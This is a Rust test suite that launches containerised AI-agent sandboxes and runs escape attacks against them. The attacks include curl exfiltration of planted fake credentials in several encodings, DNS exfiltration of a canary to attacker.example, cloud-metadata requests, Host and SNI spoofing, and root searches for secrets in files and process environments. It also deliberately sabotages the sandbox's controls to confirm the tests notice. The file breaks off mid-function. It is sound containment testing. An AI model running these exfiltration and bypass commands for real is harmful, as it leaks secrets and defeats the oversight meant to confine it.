//! The sandbox-escape suite (`docs/escape-suite.md`; spec: acceptance.md), the acceptance gate
//! of every change to the sidecar, the networks and the compose rendering.
//!
//! Two bottles are launched side by side with `bot-bottle start --headless`; their stub agent
//! waits until the suite is done. Fixtures on bottle A's egress network: an HTTPS upstream
//! (`api.test`, certificate from a test CA the sidecar trusts through
//! `BOT_BOTTLE_EXTRA_ROOTS`) that records every request, an sshd git upstream (`git.test`) and
//! a fake resolver that records every packet; a listener on the host's 0.0.0.0 and one on the
//! host's 127.0.0.1:53. Every attack of the spec then runs inside agent A, and each case checks
//! that it failed and why: the proxy's `blocked:` reason, the detector in the decision log, no
//! route, the gate's rule, and that no fixture recorded anything it should not have.
//!
//! Then the self-check sabotages bottle A three ways (DLP switched off by a route reload, the
//! agent's resolver pointed past the sink, the agent attached to the egress network) and
//! expects the matching attacks to report the escape; a sabotage that goes unnoticed fails the
//! suite. Everything runs again with the agent under gVisor when the engine has runsc (required
//! when `CI` is set: `scripts/gvisor` registers it). `BB_ESCAPE_RUNTIMES=runc` (a comma-separated
//! list) chooses the runtimes by hand.
//!
//! Prints one line per case and `N passed, N failed`; a failed case prints the sidecar decision
//! lines written while it ran. Exit status 1 when anything failed.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::panic::AssertUnwindSafe;
use std::path::PathBuf;
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use bb_testkit::{DockerCleanup, Fixture, docker_try, require_images, unique_name, wait_for};
use serde_json::Value;

/// The token the sidecar injects for `api.test`: the agent must never hold it.
const API_TOKEN: &str = "bbesc-injected-7Qw2Lp9Xz4Rk8Vn3Jt6";

/// Planted fake secrets: (label, token variable of a decoy route, value). The decoy routes make
/// them known secrets of the sidecar; the agent finds them in a leaked `.env` in its home.
const PLANTED: &[(&str, &str, &str)] = &[
    ("aws-key", "BB_ESCAPE_AWS", "AKIAQ7XBV2MNR4TWZ5YD"),
    (
        "anthropic-key",
        "BB_ESCAPE_ANTHROPIC",
        "sk-ant-api03-Tq7Zr2Lx9Vb4Nm8Kc1Hs5Wd3Fg6Jy0Pe",
    ),
    (
        "github-token",
        "BB_ESCAPE_GITHUB",
        "ghp_R4nd0mGhT0kenZx8Qw2Lp9Xz4Rk8Vn3Jt6",
    ),
    (
        "generic-secret",
        "BB_ESCAPE_GENERIC",
        "Gn7pQ2xW9zK4vR8mT3bY6cL1",
    ),
];

const WAIT_SCRIPT: &str =
    "run:touch /tmp/bb-escape-ready; while [ ! -e /tmp/bb-escape-done ]; do sleep 0.2; done";

fn main() {
    require_images();
    let runtimes = match std::env::var("BB_ESCAPE_RUNTIMES") {
        Ok(list) => list.split(',').map(str::to_string).collect(),
        Err(_) => default_runtimes(),
    };
    let mut total = Tally::default();
    for runtime in runtimes {
        let started = Instant::now();
        let tally = suite(&runtime);
        println!(
            "escape ({runtime}): {} passed, {} failed in {:.0} s",
            tally.passed,
            tally.failed,
            started.elapsed().as_secs_f64()
        );
        total.passed += tally.passed;
        total.failed += tally.failed;
    }
    println!("{} passed, {} failed", total.passed, total.failed);
    if total.failed > 0 {
        std::process::exit(1);
    }
}

/// runc, and runsc when the engine has it (required under CI).
fn default_runtimes() -> Vec<String> {
    let mut runtimes = vec!["runc".to_string()];
    if runsc_registered() {
        runtimes.push("runsc".into());
    } else if std::env::var_os("CI").is_some() {
        println!("FAIL  gVisor: the engine has no runsc runtime (scripts/gvisor registers it)");
        std::process::exit(1);
    } else {
        println!("note  gVisor: the engine has no runsc runtime; run scripts/gvisor as root");
    }
    runtimes
}

fn runsc_registered() -> bool {
    docker_try(&["info", "--format", "{{json .Runtimes}}"])
        .map(|o| o.contains("\"runsc\""))
        .unwrap_or(false)
}

#[derive(Default)]
struct Tally {
    passed: usize,
    failed: usize,
}

/// One launch of both bottles, every attack, the positive checks and the self-check.
fn suite(runtime: &str) -> Tally {
    let name = unique_name("esc");
    let _cleanup = DockerCleanup::new(&name);
    let mut run = Runner::default();
    let world = match World::new(&name, runtime) {
        Ok(world) => world,
        Err(why) => {
            println!("FAIL  setup ({runtime}): {why}");
            run.tally.failed += 1;
            return run.tally;
        }
    };
    run.sidecar = world.a.sidecar.clone();
    println!(
        "escape ({runtime}): bottles {} and {} up",
        world.a.identity, world.b.identity
    );
    attacks(&mut run, &world, runtime);
    positives(&mut run, &world);
    self_check(&mut run, &world);
    let teardown = world.finish();
    run.case("teardown: both launches exit 0 and leave nothing", || {
        teardown
    });
    run.tally
}

#[derive(Default)]
struct Runner {
    tally: Tally,
    sidecar: String,
}

impl Runner {
    /// Runs one case: `check` gets the decision lines the sidecar writes while it runs.
    fn case(&mut self, name: &str, check: impl FnOnce() -> Result<(), String>) {
        let before = decision_lines(&self.sidecar).len();
        let started = Instant::now();
        let result = std::panic::catch_unwind(AssertUnwindSafe(check))
            .unwrap_or_else(|panic| Err(panic_text(&panic)));
        match result {
            Ok(()) => {
                self.tally.passed += 1;
                println!("ok    {name} ({:.1} s)", started.elapsed().as_secs_f64());
            }
            Err(why) => {
                self.tally.failed += 1;
                println!("FAIL  {name}: {why}");
                for line in decision_lines(&self.sidecar).iter().skip(before) {
                    println!("      decision: {line}");
                }
            }
        }
    }
}

fn panic_text(panic: &Box<dyn std::any::Any + Send>) -> String {
    panic
        .downcast_ref::<String>()
        .cloned()
        .or_else(|| panic.downcast_ref::<&str>().map(|s| s.to_string()))
        .unwrap_or_else(|| "panicked".into())
}

/// The sidecar's log (decision and event lines), one entry per line.
fn decision_lines(sidecar: &str) -> Vec<String> {
    if sidecar.is_empty() {
        return Vec::new();
    }
    Command::new("docker")
        .args(["logs", sidecar])
        .output()
        .map(|o| {
            String::from_utf8_lossy(&o.stdout)
                .lines()
                .map(str::to_string)
                .collect()
        })
        .unwrap_or_default()
}

/// The decision lines (parsed) of `sidecar` from index `from`.
fn decisions_since(sidecar: &str, from: usize) -> Vec<Value> {
    decision_lines(sidecar)
        .iter()
        .skip(from)
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

/// A bottle launched by `bot-bottle start --headless`, its agent waiting for the suite.
struct Launch {
    child: Child,
    stderr: PathBuf,
    identity: String,
    agent: String,
    sidecar: String,
    egress_net: String,
    internal_net: String,
    state_dir: PathBuf,
}

impl Launch {
    fn ip_on(&self, container: &str, network: &str) -> String {
        docker_try(&[
            "inspect",
            "-f",
            &format!("{{{{(index .NetworkSettings.Networks \"{network}\").IPAddress}}}}"),
            container,
        ])
        .unwrap_or_default()
    }
}

struct World {
    /// Holds the temporary BOT_BOTTLE_HOME, certificates and keys.
    _fixture: Fixture,
    a: Launch,
    b: Launch,
    upstream: String,
    upstream_ip: String,
    git: String,
    resolver: String,
    resolver_ip: String,
    canary: String,
    listener: TcpListener,
    loopback_dns: (UdpSocket, TcpListener),
}

impl World {
    fn new(name: &str, runtime: &str) -> Result<World, String> {
        let f = Fixture::new();
        let certs = f.path("certs");
        std::fs::create_dir_all(&certs).map_err(|e| e.to_string())?;
        let ca = bb_testkit::test_certs(&certs, &["api.test"]);
        let loopback_dns = (
            UdpSocket::bind("127.0.0.1:53").map_err(|e| {
                format!("cannot listen on the host's 127.0.0.1:53 (run as root): {e}")
            })?,
            TcpListener::bind("127.0.0.1:53")
                .map_err(|e| format!("cannot listen on 127.0.0.1:53/tcp: {e}"))?,
        );
        loopback_dns
            .0
            .set_nonblocking(true)
            .map_err(|e| e.to_string())?;
        loopback_dns
            .1
            .set_nonblocking(true)
            .map_err(|e| e.to_string())?;
        let listener = TcpListener::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
        listener.set_nonblocking(true).map_err(|e| e.to_string())?;

        // The git upstream first: its host key goes into the bottle.
        let git = format!("bot-bottle-{name}-git");
        let git_net = format!("bot-bottle-{name}-gitnet");
        let host_key =
            bb_testkit::start_git_upstream(&f, &git, &git_net, &f.path("user/.ssh/deploy"));

        write_manifest(&f, name, &host_key);
        let mut env: Vec<(String, String)> = vec![
            (
                "BOT_BOTTLE_IMAGE".into(),
                bb_testkit::TEST_AGENT_IMAGE.into(),
            ),
            (
                "BOT_BOTTLE_BASE_IMAGE".into(),
                "bot-bottle-base:local".into(),
            ),
            ("BOT_BOTTLE_EXTRA_ROOTS".into(), ca.display().to_string()),
            ("BB_ESCAPE_API".into(), API_TOKEN.into()),
        ];
        env.extend(
            PLANTED
                .iter()
                .map(|(_, var, value)| (var.to_string(), value.to_string())),
        );
        let a = launch(&f, name, runtime, &env)?;
        let b = launch(&f, &format!("{name}-twin"), runtime, &env)?;

        let upstream = format!("bot-bottle-{name}-upstream");
        docker_try(&[
            "run",
            "-d",
            "--name",
            &upstream,
            "--label",
            "bot-bottle.test=escape",
            "--network",
            &a.egress_net,
            "--network-alias",
            "api.test",
            "-e",
            "FIXTURE_TLS_CERT=/certs/leaf.pem",
            "-e",
            "FIXTURE_TLS_KEY=/certs/leaf.key",
            "-v",
            &format!("{}:/certs:ro", certs.display()),
            "bot-bottle-fixture:latest",
        ])?;
        docker_try(&[
            "network",
            "connect",
            "--alias",
            "git.test",
            &a.egress_net,
            &git,
        ])?;
        let resolver = format!("bot-bottle-{name}-resolver");
        docker_try(&[
            "run",
            "-d",
            "--name",
            &resolver,
            "--label",
            "bot-bottle.test=escape",
            "--network",
            &a.egress_net,
            "bot-bottle-base:local",
            "sh",
            "-c",
            "touch /tmp/udp /tmp/tcp; (nc -k -u -l 53 >>/tmp/udp &); exec nc -k -l 53 >>/tmp/tcp",
        ])?;
        let upstream_ip = a.ip_on(&upstream, &a.egress_net);
        let resolver_ip = a.ip_on(&resolver, &a.egress_net);
        let canary = stdout(&exec(&a.agent, "node", "printf %s \"$BOT_BOTTLE_CANARY\""));
        if !canary.starts_with("bbcanary_") {
            return Err(format!("the agent has no canary: {canary:?}"));
        }
        // The leaked `.env` the attacker finds.
        let dotenv: String = PLANTED
            .iter()
            .map(|(label, _, value)| {
                format!("{}={value}\n", label.to_uppercase().replace('-', "_"))
            })
            .collect();
        let planted = exec(
            &a.agent,
            "node",
            &format!("printf '%s' '{dotenv}' > ~/.env.leaked"),
        );
        if !planted.status.success() {
            return Err(format!("planting the secrets: {}", stderr(&planted)));
        }
        // Wait until the upstream answers through the proxy.
        wait_for(Duration::from_secs(30), || {
            exec(&a.agent, "node", "curl -fsS -m 3 https://api.test/ready")
                .status
                .success()
                .then_some(())
        })
        .ok_or("api.test never answered through the proxy")?;
        Ok(World {
            _fixture: f,
            a,
            b,
            upstream,
            upstream_ip,
            git,
            resolver,
            resolver_ip,
            canary,
            listener,
            loopback_dns,
        })
    }

    /// Every planted secret and the canary: (label, value).
    fn secrets(&self) -> Vec<(String, String)> {
        let mut all: Vec<(String, String)> = PLANTED
            .iter()
            .map(|(l, _, v)| (l.to_string(), v.to_string()))
            .collect();
        all.push(("canary".into(), self.canary.clone()));
        all
    }

    /// What the HTTPS upstream received: one JSON object per request.
    fn upstream_requests(&self) -> String {
        stdout(&exec(&self.upstream, "root", "cat /tmp/requests.jsonl"))
    }

    /// Stops both agents (their launch then tears down) and checks that nothing is left.
    fn finish(mut self) -> Result<(), String> {
        let mut problems = Vec::new();
        // The fixtures first: their endpoints on the egress network would keep it.
        let _ = docker_try(&["rm", "-f", "-v", &self.upstream, &self.git, &self.resolver]);
        for l in [&mut self.a, &mut self.b] {
            let _ = exec(&l.agent, "root", "touch /tmp/bb-escape-done");
            match wait_child(&mut l.child, Duration::from_secs(120)) {
                Some(status) if status.success() => {}
                other => problems.push(format!(
                    "{}: start exited {other:?}: {}",
                    l.identity,
                    std::fs::read_to_string(&l.stderr).unwrap_or_default()
                )),
            }
            let left = docker_try(&["ps", "-a", "--format", "{{.Names}}"]).unwrap_or_default();
            if left.lines().any(|n| n.contains(&l.identity)) {
                problems.push(format!("{}: containers left", l.identity));
            }
            let nets = docker_try(&["network", "ls", "--format", "{{.Name}}"]).unwrap_or_default();
            if nets.lines().any(|n| n.contains(&l.identity)) {
                problems.push(format!("{}: networks left", l.identity));
            }
            if l.state_dir.exists() {
                problems.push(format!("{}: state dir kept after a clean exit", l.identity));
            }
        }
        if problems.is_empty() {
            Ok(())
        } else {
            Err(problems.join("; "))
        }
    }
}

fn write_manifest(f: &Fixture, name: &str, host_key: &str) {
    let mut routes = String::from(
        "    - host: api.test\n      private: true\n      auth: {scheme: Bearer, token_ref: BB_ESCAPE_API}\n",
    );
    for (label, var, _) in PLANTED {
        routes.push_str(&format!(
            "    - host: {label}.decoy.test\n      auth: {{scheme: Bearer, token_ref: {var}}}\n"
        ));
    }
    let front = format!(
        "egress:\n  routes:\n{routes}git-gate:\n  user: {{name: Escape Bot, email: escape@example.org}}\n  repos:\n    shop:\n      url: ssh://git@git.test:2222/srv/git/shop.git\n      key: {{provider: static, path: ~/.ssh/deploy}}\n      host_key: \"{host_key}\"\n"
    );
    f.bottle("escape", &front);
    for agent in [name.to_string(), format!("{name}-twin")] {
        f.agent(
            &agent,
            "bottle: escape\n",
            "You are the escape suite's agent.",
        );
    }
}

fn launch(
    f: &Fixture,
    agent: &str,
    runtime: &str,
    env: &[(String, String)],
) -> Result<Launch, String> {
    let stderr_path = f.path(&format!("{agent}.stderr"));
    let err_file = std::fs::File::create(&stderr_path).map_err(|e| e.to_string())?;
    let mut child = f
        .spawnable("bot-bottle")
        .args([
            "start",
            agent,
            "--headless",
            "--prompt",
            WAIT_SCRIPT,
            "--runtime",
            runtime,
        ])
        .envs(env.iter().map(|(k, v)| (k.as_str(), v.as_str())))
        .stdout(Stdio::null())
        .stderr(err_file)
        .spawn()
        .map_err(|e| e.to_string())?;
    let slug = bb_plan::planner::identity_slug(agent);
    let prefix = format!("bot-bottle-{slug}-");
    let found = wait_for(Duration::from_secs(240), || {
        if let Ok(Some(status)) = child.try_wait() {
            return Some(Err(format!(
                "start {agent} exited {status} before the agent was ready: {}",
                std::fs::read_to_string(&stderr_path).unwrap_or_default()
            )));
        }
        let names = docker_try(&["ps", "--format", "{{.Names}}"]).ok()?;
        let agent_c = names.lines().find(|n| {
            n.strip_prefix(&prefix)
                .and_then(|rest| rest.strip_suffix("-agent"))
                .is_some_and(|id| !id.contains('-'))
        })?;
        exec(agent_c, "node", "test -e /tmp/bb-escape-ready")
            .status
            .success()
            .then(|| Ok(agent_c.to_string()))
    });
    let agent_c = match found {
        Some(Ok(name)) => name,
        Some(Err(why)) => return Err(why),
        None => {
            let _ = child.kill();
            return Err(format!("{agent}: the agent was not ready within 240 s"));
        }
    };
    let identity = agent_c
        .strip_prefix("bot-bottle-")
        .and_then(|s| s.strip_suffix("-agent"))
        .unwrap_or_default()
        .to_string();
    Ok(Launch {
        child,
        stderr: stderr_path,
        sidecar: format!("bot-bottle-{identity}-sidecar"),
        egress_net: format!("bot-bottle-{identity}-egress"),
        internal_net: format!("bot-bottle-{identity}-internal"),
        state_dir: f.home().join("state").join(&identity),
        agent: agent_c,
        identity,
    })
}

// ---- the attacks ----

fn attacks(run: &mut Runner, w: &World, runtime: &str) {
    let a = &w.a;
    run.case(
        "1 a host without a route: 403 blocked at CONNECT and in plain HTTP",
        || {
            let from = decision_lines(&a.sidecar).len();
            let tls = exec(&a.agent, "node", "curl -sS -m 5 https://evil.test/x");
            expect(
                stderr(&tls).contains("CONNECT tunnel failed, response 403"),
                || format!("https: {}", stderr(&tls)),
            )?;
            let plain = curl(a, "http://evil.test/x");
            expect_blocked(&plain, "not in the allowlist")?;
            expect_decision(a, from, "evil.test", None)?;
            expect(!w.upstream_requests().contains("evil.test"), || {
                "the upstream saw it".into()
            })
        },
    );
    run.case("2 direct to the upstream's IP, no proxy: no route", || {
        let out = exec(
            &a.agent,
            "node",
            &format!(
                "curl -sS --noproxy '*' -m 4 -k https://{}/direct-ip",
                w.upstream_ip
            ),
        );
        expect(!out.status.success(), || "curl connected".into())?;
        let nc = exec(
            &a.agent,
            "node",
            &format!("nc -v -z -w 3 {} 443", w.upstream_ip),
        );
        expect(!nc.status.success(), || "nc connected".into())?;
        expect_no_route(&stderr(&nc))?;
        expect(!w.upstream_requests().contains("/direct-ip"), || {
            "the upstream saw it".into()
        })
    });
    run.case(
        "2 a name without the proxy: the sink does not resolve it",
        || {
            let out = exec(
                &a.agent,
                "node",
                "curl -sS --noproxy '*' -m 4 https://api.test/direct-name",
            );
            expect(stderr(&out).contains("Could not resolve host"), || {
                stderr(&out)
            })
        },
    );
    run.case(
        "2 a host listener on 0.0.0.0 through every host address: unreachable",
        || host_listener_unreachable(w),
    );
    run.case("3 an allowed host with a spoofed Host header: 403", || {
        let out = curl(a, "-H 'Host: evil.test' https://api.test/spoof-host");
        expect_blocked(&out, "")?;
        expect(!w.upstream_requests().contains("/spoof-host"), || {
            "the upstream saw it".into()
        })
    });
    run.case("3 an allowed host with a spoofed SNI: refused", || {
        let out = exec(
            &a.agent,
            "node",
            "printf 'GET /spoof-sni HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n' | timeout 10 openssl s_client -quiet -proxy egress:9099 -connect api.test:443 -servername evil.test 2>&1",
        );
        let text = stdout(&out);
        expect(!text.contains("HTTP/1.1 200"), || format!("answered: {text}"))?;
        expect(!w.upstream_requests().contains("/spoof-sni"), || "the upstream saw it".into())
    });
    for (label, value) in w.secrets() {
        for part in ["path", "query", "header", "body"] {
            for enc in ["plain", "base64", "url2", "hex", "split"] {
                run.case(
                    &format!("4 {label} in the {part}, {enc}: blocked by DLP"),
                    || {
                        let from = decision_lines(&w.a.sidecar).len();
                        exfiltrate(w, &label, &value, part, enc).and_then(|out| {
                            dlp_blocked(w, from, out, &format!("/leak/{label}/{part}/{enc}"))
                        })
                    },
                );
            }
        }
    }
    run.case(
        "5 the injected token in a body to its own host: blocked",
        || {
            let from = decision_lines(&a.sidecar).len();
            let out = curl(
                a,
                &format!("--data-binary 'x={API_TOKEN}' https://api.test/own-token"),
            );
            expect_blocked(&out, "known_secrets")?;
            expect_decision(a, from, "api.test", Some("known_secrets"))?;
            expect(!w.upstream_requests().contains("/own-token"), || {
                "the upstream saw it".into()
            })
        },
    );
    run.case("5 the injected token is nowhere in the agent (env, files, processes)", || {
        // The same search finds the planted AWS key in ~/.env.leaked: proof that it reads files.
        let search = |needle: &str| {
            stdout(&exec(
                &a.agent,
                "root",
                &format!(
                    "grep -rlF '{needle}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -F '{needle}'; true"
                ),
            ))
        };
        let control = search(PLANTED[0].2);
        expect(control.contains("/home/node/.env.leaked"), || {
            format!("the search does not work here (control found: {control:?})")
        })?;
        let found = search(API_TOKEN);
        expect(found.is_empty(), || format!("found: {found}"))
    });
    run.case(&format!("the agent runs under {runtime}"), || {
        let used = docker_try(&["inspect", "-f", "{{.HostConfig.Runtime}}", &a.agent])?;
        expect(used == runtime, || format!("the agent runs under {used}"))
    });
    run.case(
        "6 DNS exfiltration: refused by the sink, received by no other resolver",
        || dns_exfiltration(w, &w.a),
    );
    run.case(
        "7 a commit with a planted secret pushed through the gate: rejected",
        || dirty_push(w),
    );
    run.case(
        "8 cloud metadata through the proxy: refused before any connection",
        || {
            let from = decision_lines(&a.sidecar).len();
            let out = curl(a, "http://169.254.169.254/latest/meta-data/");
            expect_blocked(&out, "")?;
            let lines = decisions_since(&a.sidecar, from);
            expect(
                lines
                    .iter()
                    .any(|d| d["host"] == "169.254.169.254" && d["verdict"] == "block"),
                || format!("no block decision: {lines:?}"),
            )
        },
    );
    run.case("8 no Docker socket in the agent", || {
        // `test -e`, not `ls`: Debian's runsc fails bookworm's statx flags with EINVAL.
        let out = exec(
            &a.agent,
            "root",
            "for p in /var/run/docker.sock /run/docker.sock /var/run/docker /run/containerd; do test -e $p && echo $p; done; true",
        );
        let found = stdout(&out);
        expect(found.is_empty(), || format!("present: {found}"))
    });
    run.case(
        "8 the sidecar offers only its proxy, sink and gate ports",
        || sidecar_ports(w),
    );
    run.case(
        "9 two bottles cannot reach each other's agent or sidecar",
        || bottles_apart(w),
    );
}

fn positives(run: &mut Runner, w: &World) {
    let a = &w.a;
    run.case(
        "+ the allowed host answers through the proxy with the injected token",
        || {
            let out = curl(a, "https://api.test/whoami");
            expect(stdout(&out).starts_with("ok 200"), || {
                format!("{} {}", stdout(&out), stderr(&out))
            })?;
            let seen = w.upstream_requests();
            let whoami = seen
                .lines()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .find(|r| r["path"] == "/whoami")
                .ok_or("the upstream did not record /whoami")?;
            expect(
                whoami["authorization"] == format!("Bearer {API_TOKEN}"),
                || format!("authorization seen: {}", whoami["authorization"]),
            )
        },
    );
    run.case("+ a clean commit pushed through the gate lands upstream", || {
        let out = exec(
            &a.agent,
            "node",
            "cd ~/shop && echo ok > notes.txt && git add notes.txt && git commit -q -m clean-change && git push -q origin main",
        );
        expect(out.status.success(), || stderr(&out))?;
        let log = stdout(&exec(&w.git, "git", "git -C /srv/git/shop.git log --format=%s main"));
        expect(log.contains("clean-change"), || format!("upstream log: {log}"))
    });
    run.case("+ a fetch through the gate sees a commit made upstream out of band", || {
        let made = exec(
            &w.git,
            "git",
            "t=$(mktemp -d) && git clone -q /srv/git/shop.git $t && cd $t && echo x > upstream.txt && git add . && git -c user.name=up -c user.email=up@example.org commit -q -m out-of-band && git push -q origin main",
        );
        expect(made.status.success(), || stderr(&made))?;
        let out = exec(&a.agent, "node", "cd ~/shop && git pull -q && git log --format=%s -1");
        expect(stdout(&out).trim() == "out-of-band", || {
            format!("{} {}", stdout(&out), stderr(&out))
        })
    });
}

/// The self-check: each sabotage must make its attack report the escape.
fn self_check(run: &mut Runner, w: &World) {
    let a = &w.a;
    run.case(
        "self-check: with DLP switched off the secret reaches the upstream",
        || {
            let routes_file = a.state_dir.join("egress/routes.json");
            let text = std::fs::read_to_string(&routes_file).map_err(|e| e.to_string())?;
            let mut routes: Value = serde_json::from_str(&text).map_err(|e| e.to_string())?;
            for route in routes["routes"].as_array_mut().ok_or("no routes")? {
                route["dlp"]["outbound"] = Value::Array(vec![]);
            }
            let tmp = routes_file.with_extension("json.sabotage");
            std::fs::write(&tmp, routes.to_string()).map_err(|e| e.to_string())?;
            std::fs::rename(&tmp, &routes_file).map_err(|e| e.to_string())?;
            docker_try(&["kill", "-s", "HUP", &a.sidecar])?;
            let caught = wait_for(Duration::from_secs(10), || {
                let from = decision_lines(&a.sidecar).len();
                let out = exfiltrate(w, "aws-key", PLANTED[0].2, "body", "plain").ok()?;
                dlp_blocked(w, from, out, "/leak/aws-key/body/plain").err()
            });
            let why = caught.ok_or("the attack still reports success with DLP off")?;
            expect(
                w.upstream_requests().contains("/leak/aws-key/body/plain"),
                || format!("the attack failed for another reason: {why}"),
            )
        },
    );
    run.case(
        "self-check: with the sink bypassed the DNS attack reports it",
        || {
            docker_try(&[
                "exec",
                "-u",
                "root",
                &a.agent,
                "sh",
                "-c",
                &format!("echo 'nameserver {}' > /etc/resolv.conf", w.resolver_ip),
            ])?;
            match dns_exfiltration(w, a) {
                Ok(()) => Err("the DNS attack still reports success with the sink bypassed".into()),
                Err(_) => Ok(()),
            }
        },
    );
    run.case(
        "self-check: with the agent on the egress network the direct route is found",
        || {
            docker_try(&["network", "connect", &a.egress_net, &a.agent])?;
            let out = exec(
                &a.agent,
                "node",
                &format!(
                    "curl -sS --noproxy '*' -m 4 -k https://{}/sabotage-direct",
                    w.upstream_ip
                ),
            );
            expect(out.status.success(), || {
                format!("still no route: {}", stderr(&out))
            })?;
            expect(w.upstream_requests().contains("/sabotage-direct"), || {
                "the upstream did not see it".into()
            })
        },
    );
}

// ---- attack helpers ----

/// `curl ARGS` in agent A, printing the body then ` <status>`.
fn curl(l: &Launch, args: &str) -> Output {
    exec(
        &l.agent,
        "node",
        &format!("curl -sS -m 10 -w ' %{{http_code}}' {args}"),
    )
}

fn exfiltrate(
    w: &World,
    label: &str,
    value: &str,
    part: &str,
    enc: &str,
) -> Result<Output, String> {
    let path = format!("/leak/{label}/{part}/{enc}");
    let half = value.len() / 2;
    let (h1, h2) = value.split_at(half);
    let encoded = match enc {
        "plain" => value.to_string(),
        "base64" => base64(value.as_bytes()),
        "url2" => value.bytes().map(|b| format!("%25{b:02X}")).collect(),
        "hex" => value.bytes().map(|b| format!("{b:02x}")).collect(),
        "split" => String::new(),
        other => return Err(format!("unknown encoding {other}")),
    };
    let args = match (part, enc) {
        ("path", "split") => format!("https://api.test{path}/{h1}/x/{h2}"),
        ("path", _) => format!("https://api.test{path}/{encoded}"),
        ("query", "split") => format!("'https://api.test{path}?a={h1}&b={h2}'"),
        ("query", _) => format!("'https://api.test{path}?q={encoded}'"),
        ("header", "split") => format!("-H 'X-Data: {h1} and {h2}' https://api.test{path}"),
        ("header", _) => format!("-H 'X-Data: {encoded}' https://api.test{path}"),
        ("body", "split") => format!("--data-binary 'a={h1}&b={h2}' https://api.test{path}"),
        ("body", _) => format!("--data-binary 'd={encoded}' https://api.test{path}"),
        (other, _) => return Err(format!("unknown part {other}")),
    };
    Ok(curl(&w.a, &args))
}

/// A DLP refusal: 403 `blocked: <detector> found`, a block decision for api.test naming the
/// detector among the decision lines from index `from`, and nothing at the upstream.
fn dlp_blocked(w: &World, from: usize, out: Output, marker: &str) -> Result<(), String> {
    let body = stdout(&out);
    expect(body.ends_with(" 403"), || {
        format!("not refused: {body} {}", stderr(&out))
    })?;
    let detector = ["token_patterns", "known_secrets"]
        .into_iter()
        .find(|d| body.starts_with(&format!("blocked: {d} found ")))
        .ok_or_else(|| format!("not a DLP refusal: {body}"))?;
    let named = decisions_since(&w.a.sidecar, from)
        .iter()
        .any(|d| d["verdict"] == "block" && d["host"] == "api.test" && d["detector"] == detector);
    expect(named, || format!("no block decision naming {detector}"))?;
    expect(!w.upstream_requests().contains(marker), || {
        "the upstream received it".into()
    })
}

fn expect(ok: bool, why: impl FnOnce() -> String) -> Result<(), String> {
    if ok { Ok(()) } else { Err(why()) }
}

/// A curl answer `blocked: ... <403>` whose reason contains `reason`.
fn expect_blocked(out: &Output, reason: &str) -> Result<(), String> {
    let body = stdout(out);
    expect(
        body.starts_with("blocked:") && body.ends_with(" 403") && body.contains(reason),
        || format!("expected 403 blocked ({reason}): {body} {}", stderr(out)),
    )
}

fn expect_decision(
    l: &Launch,
    from: usize,
    host: &str,
    detector: Option<&str>,
) -> Result<(), String> {
    let lines = decisions_since(&l.sidecar, from);
    let found = lines.iter().any(|d| {
        d["verdict"] == "block"
            && d["host"] == host
            && detector.is_none_or(|det| d["detector"] == det)
    });
    expect(found, || {
        format!("no block decision for {host} ({detector:?}) in {lines:?}")
    })
}

/// curl/nc failed without reaching anything: unreachable, no route or a timeout (a refusal
/// would mean a packet got there).
fn expect_no_route(err: &str) -> Result<(), String> {
    let why = [
        "No route to host",
        "Network is unreachable",
        "timed out",
        "Connection timed out",
    ];
    expect(
        why.iter().any(|w| err.contains(w)) && !err.contains("refused"),
        || format!("not a routing failure: {err}"),
    )
}

fn host_listener_unreachable(w: &World) -> Result<(), String> {
    let port = w.listener.local_addr().map_err(|e| e.to_string())?.port();
    let gateway = |net: &str| {
        docker_try(&[
            "network",
            "inspect",
            "-f",
            "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
            net,
        ])
        .unwrap_or_default()
    };
    let internal_subnet = docker_try(&[
        "network",
        "inspect",
        "-f",
        "{{range .IPAM.Config}}{{.Subnet}}{{end}}",
        &w.a.internal_net,
    ])
    .unwrap_or_default();
    let mut targets = vec![
        internal_subnet.replace(".0/24", ".1"),
        gateway(&w.a.egress_net),
        gateway("bridge"),
    ];
    let host_ips = Command::new("hostname")
        .arg("-I")
        .output()
        .map_err(|e| e.to_string())?;
    targets.extend(
        String::from_utf8_lossy(&host_ips.stdout)
            .split_whitespace()
            .filter(|a| !a.contains(':'))
            .map(str::to_string),
    );
    targets.retain(|t| !t.is_empty());
    expect(targets.len() >= 4, || {
        format!("too few host addresses found: {targets:?}")
    })?;
    // All probes at once: each waits out its timeout.
    let probes: Vec<String> = targets
        .iter()
        .map(|t| format!("(nc -z -w 2 {t} {port} && echo {t}) &"))
        .collect();
    let answered = stdout(&exec(
        &w.a.agent,
        "node",
        &format!("{} wait", probes.join(" ")),
    ));
    expect(answered.is_empty(), || {
        format!("the host listener answered on {answered}")
    })?;
    let mut accepted = 0;
    while let Ok((mut stream, _)) = w.listener.accept() {
        let mut buf = [0u8; 1];
        let _ = stream.read(&mut buf);
        accepted += 1;
    }
    expect(accepted == 0, || {
        format!("the host listener accepted {accepted} connections")
    })
}

fn dns_exfiltration(w: &World, l: &Launch) -> Result<(), String> {
    let from = decision_lines(&l.sidecar).len();
    let label: String = w
        .canary
        .bytes()
        .take(20)
        .map(|b| format!("{b:02x}"))
        .collect();
    let sidecar_ip = l.ip_on(&l.sidecar, &l.internal_net);
    let asks = [
        ("default", String::new()),
        ("tcp", "+tcp".to_string()),
        ("sink", format!("@{sidecar_ip}")),
        ("embedded", "@127.0.0.11".to_string()),
    ];
    for (how, args) in &asks {
        let name = format!("{label}-{how}.attacker.example");
        let out = exec(
            &l.agent,
            "node",
            &format!("dig +time=2 +tries=1 {args} {name}"),
        );
        expect(stdout(&out).contains("status: REFUSED"), || {
            format!("{how}: {}", stdout(&out))
        })?;
    }
    let direct = exec(
        &l.agent,
        "node",
        &format!(
            "dig +time=2 +tries=1 @{} {label}-direct.attacker.example",
            w.resolver_ip
        ),
    );
    expect(!stdout(&direct).contains("status:"), || {
        format!("direct: {}", stdout(&direct))
    })?;
    let received = stdout(&exec(&w.resolver, "root", "cat /tmp/udp /tmp/tcp | wc -c"));
    expect(received.trim() == "0", || {
        "the fake resolver on the egress network received a query".into()
    })?;
    let mut buf = [0u8; 512];
